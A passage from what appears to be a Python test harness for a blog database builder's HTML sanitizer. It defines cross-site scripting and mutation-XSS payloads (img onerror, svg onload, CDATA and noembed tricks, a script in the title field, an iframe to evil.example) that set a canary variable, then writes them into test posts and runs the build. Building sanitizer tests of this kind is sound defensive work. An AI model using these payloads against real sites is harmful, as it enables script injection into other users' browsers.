    "noembed-noframes": """<noembed><img src=x onerror="window.__canary='noembed'"></noembed><noframes><img src=x onerror="window.__canary='noframes'"></noframes>""",
    "comment": """<!--><img src=x onerror="window.__canary='comment'">--><p>后</p>""",
    "cdata": """<![CDATA[><img src=x onerror="window.__canary='cdata'">]]><p>后</p>""",
    "attribute-quotes": """<a href="https://good.example.org/q" title="&quot;&gt;&lt;img src=x onerror=window.__canary='attr'&gt;">属性</a>
<img src="https://img.example.org/ok.png" alt="&quot; onerror=&quot;window.__canary='alt'">""",
    "iframe-text": """<iframe><img src=x onerror="window.__canary='iframe-text'"></iframe><p>后</p>""",
    "plaintext": """<p>前</p><plaintext><img src=x onerror="window.__canary='plaintext'">""",
    "style-in-table": """<table><style><img src=x onerror="window.__canary='table-style'"></style><tr><td>格</td></tr></table>""",
}
# Front matter fields are shown on the article page too (escaped by the template).
FIELD_ATTACK = {
    "title": "</title><script>window.__canary='title'</script><img src=x onerror=\"window.__canary='title-img'\">",
    "author": "<img src=x onerror=\"window.__canary='author'\">",
    "tag": "<svg onload=\"window.__canary='tag'\">",
    "category": "<iframe src=\"https://evil.example/category\"></iframe>",
}


def yaml_quote(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def write_attack_posts(folder: Path, local_image: str) -> dict[str, str]:
    """Every attack as a post, in the RSS shape (one `<div>` line: only the sanitizer stands
    in the way) and the scraped shape (chrome removal first); return {url: name}.
    `local_image` is an image on the server that will serve them (it must load)."""
    folder.mkdir(parents=True, exist_ok=True)
    posts = {}

    def write(name: str, body: str, title: str = "攻击", author: str = "作者", tag: str = "测试", category: str = "攻击"):
        url = f"https://attacks.example.com/{name}"
        front = (
            f"---\nlayout: post\ntitle: {yaml_quote(title + ' ' + name)}\ndate: 2024-01-02T03:04:05Z\n"
            f"author: {yaml_quote(author)}\nfrom: {url}\ntags: [ {yaml_quote(tag)} ]\ncategories: [ {yaml_quote(category)} ]\n---\n"
        )
        (folder / f"{name}.md").write_text(front + body, encoding="utf-8")
        posts[url] = name

    for name, template in CANARY_ATTACKS.items():
        body = template.format(evil=EVIL, local_image=local_image)
        write(f"{name}-rss", "<div>" + body.replace("\n", "") + "</div>\n")
        write(f"{name}-scraped", "<article>\n" + body + "\n</article>\n")
    for name, body in MUTATION_ATTACKS.items():
        # A sentence of text: a page with nothing left to read is refused, not stored.
        write(f"mxss-{name}", "<div><p>正文。</p>" + body.replace("\n", "") + "</div>\n")
    write("front-matter-fields", "<div><p>字段</p></div>\n", **FIELD_ATTACK)
    return posts


# --- the one build ---------------------------------------------------------------


@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str

    @property
    def problem_lines(self) -> list[str]:
        return [line for line in self.stderr.splitlines() if line.strip()]

    @property
    def summary(self) -> str:
        return " ".join(self.stdout.split())  # rich wraps long lines at the terminal width


def run_cli(*args, cwd: Path | None = None) -> Run:
    """`build_db.py` in a child process, as a user runs it."""
    env = {**os.environ, "PYTHONUTF8": "1", "COLUMNS": "200"}
    done = subprocess.run(
        [sys.executable, str(ROOT / "build_db.py"), *map(str, args)],
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="replace",
        timeout=CLI_TIMEOUT,
        cwd=cwd or ROOT,
        env=env,
    )
    return Run(done.returncode, done.stdout, done.stderr)


@dataclass
class HostileBuild:
    folder: Path
    db: Path
    expected: dict[str, str]  # hostile file -> outcome (see the top of this file)
    good: dict[str, str]  # good post's path -> url
    attacks: dict[str, str]  # attack post's url -> path
    port: int  # the attack posts' local image is on this port: serve the database there
    run: Run


def build_hostile_site(base: Path, port: int) -> HostileBuild:
    """The hostile files, the good posts and the attack posts (in attacks/) in one folder,
    built by `build_db.py build` into base/out/posts.db."""
    folder = base / "posts"
    folder.mkdir()
    expected = write_hostile_posts(folder)
    good = write_good_posts(folder)
    local_image = f"http://127.0.0.1:{port}/-/static/favicon.png"
    names = write_attack_posts(folder / ATTACKS_FOLDER, local_image)
    attacks = {url: f"{ATTACKS_FOLDER}/{name}.md" for url, name in names.items()}
    db = base / "out" / "posts.db"
    run = run_cli("build", folder, "--db", db)
    return HostileBuild(folder, db, expected, good, attacks, port, run)
